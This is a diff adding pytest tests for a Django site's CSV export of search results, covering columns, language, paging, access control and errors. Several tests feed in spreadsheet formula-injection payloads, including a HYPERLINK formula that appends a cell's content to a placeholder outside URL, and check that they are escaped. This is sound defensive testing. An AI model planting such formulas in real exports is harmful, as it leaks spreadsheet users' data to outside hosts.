@@ -1,0 +1,147 @@
+"""The results as a table."""
+
+import csv
+import datetime
+import io
+
+import pytest
+
+from cms.models import Municipality
+from cms.users.models import User
+from search.backends.base import Changes, SearchUnavailable
+from search.backends.engine import get_backend
+from search.documents import audiences
+from search.documents.document import audience_of_group
+from search.results import export
+from search.results.export import safe_cell
+from tests.pages import make_homes, make_topic
+from tests.search.documents import entry
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture(autouse=True)
+def site(archive) -> None:
+    make_homes()
+    make_topic("heat", "Hitze", name_en="Heat")
+    make_topic("water", "Wasser", name_en="Water")
+
+
+@pytest.fixture
+def table(client):
+    """Fetch the table and return its rows."""
+
+    def table(address: str = "", locale: str = "de") -> list[list[str]]:
+        response = client.get(f"/{locale}/search/results.csv{address}")
+        assert response.status_code == 200
+        text = response.content.decode()
+        assert text.startswith("\ufeff")
+        return list(csv.reader(io.StringIO(text[1:])))
+
+    return table
+
+
+def test_a_row_says_what_a_result_is(table) -> None:
+    Municipality.objects.create(pk=31, name_de="Aßlar", name_en="Asslar", country="DE")
+    facts = {
+        "topics": ("heat", "water"),
+        "countries": ("DE", "KE"),
+        "municipalities": ("31",),
+        "versions": {"de": "/de/page-40/", "ar": "/ar/page-40/"},
+        "date": datetime.date(2025, 3, 1),
+    }
+    get_backend().apply(lambda: Changes((entry("page:40", "Sandbank", **facts),)))
+
+    head, row = table("?q=Sandbank", "en")
+    assert head == ["Title", "Type", "Date", "Language", "Address", "Can be read in", "Topics", "Countries", "Municipalities"]
+    assert row == [
+        "Sandbank",
+        "Report",
+        "2025-03-01",
+        "German",
+        "http://testserver/de/page-40/",
+        "German; Arabic",
+        "Heat; Water",
+        "Germany; Kenya",
+        "Asslar",
+    ]
+
+
+def test_the_head_is_in_the_readers_language(table) -> None:
+    assert table()[0][1] == "Art"
+
+
+def test_all_pages_of_results_are_in_it_with_their_filters(table) -> None:
+    many = tuple(entry(f"page:{number}", f"Sandbank {number}") for number in range(100, 145))
+    get_backend().apply(lambda: Changes((*many, entry("page:200", "Sandbank", type="news"))))
+
+    assert len(table("?q=Sandbank")) == 1 + 46
+    assert len(table("?q=Sandbank&type=report&page=2")) == 1 + 45
+    assert table("?q=Zanzibar") == table("?q=%22")[:1]
+
+
+def test_there_are_no_more_rows_than_said(table, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(export, "MOST_ROWS", 3)
+
+    assert len(table()) == 1 + 3
+
+
+def test_it_is_a_file_to_keep(client) -> None:
+    response = client.get("/ar/search/results.csv?q=Mombasa")
+
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == 'attachment; filename="search-results-ar.csv"'
+    assert response["X-Content-Type-Options"] == "nosniff"
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"])
+def test_no_cell_is_a_formula(text: str) -> None:
+    assert safe_cell(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("text", ["", "Hitze", "2025-03-01", "1 = 1", "a@b"])
+def test_other_cells_stay_as_they_are(text: str) -> None:
+    assert safe_cell(text) == text
+
+
+def test_a_title_that_looks_like_a_formula_is_one_in_no_spreadsheet(table) -> None:
+    title = '=HYPERLINK("https://example.org?"&A2;"Sandbank")'
+    get_backend().apply(lambda: Changes((entry("page:40", title),)))
+
+    assert table("?q=Sandbank")[1][0] == f"'{title}"
+
+
+def test_nothing_private_is_in_it_but_for_those_it_is_for(client, table, monkeypatch: pytest.MonkeyPatch) -> None:
+    member = User.objects.create_user("member@example.org", "secret-of-a-member")
+    monkeypatch.setattr(audiences, "_providers", [lambda user: [audience_of_group(7)]])
+    titles = ["Deep Dive Wasserresilienz", "Hitze in der Stadt", "Starkregen: Protokoll der Gruppe"]
+
+    assert sorted(row[0] for row in table("?q=Starkregen")[1:]) == titles[:2]
+    assert "public" in client.get("/de/search/results.csv")["Cache-Control"]
+    client.force_login(member)
+    assert sorted(row[0] for row in table("?q=Starkregen")[1:]) == titles
+    assert client.get("/de/search/results.csv")["Cache-Control"] == "private, no-store"
+
+
+def test_a_wrong_question_is_a_problem(client) -> None:
+    response = client.get("/en/search/results.csv?year=soon")
+
+    assert (response.status_code, response["Content-Type"]) == (400, "application/problem+json")
+    assert response.json()["errors"] == [{"parameter": "year", "detail": "A year has four digits."}]
+
+
+def test_without_the_engine_it_is_a_problem_of_the_server(client, monkeypatch: pytest.MonkeyPatch) -> None:
+    def refuse(question, **_: object) -> None:
+        raise SearchUnavailable("It is out.")
+
+    monkeypatch.setattr(get_backend(), "find", refuse)
+    response = client.get("/de/search/results.csv?q=Wasser")
+
+    assert (response.status_code, response["Content-Type"]) == (503, "application/problem+json")
+
+
+def test_rows_take_the_same_number_of_queries_whatever_their_number(client, django_assert_max_num_queries) -> None:
+    client.get("/de/search/results.csv")
+    for address in ("/de/search/results.csv?q=Wasser", "/de/search/results.csv"):
+        with django_assert_max_num_queries(3):
+            client.get(address)
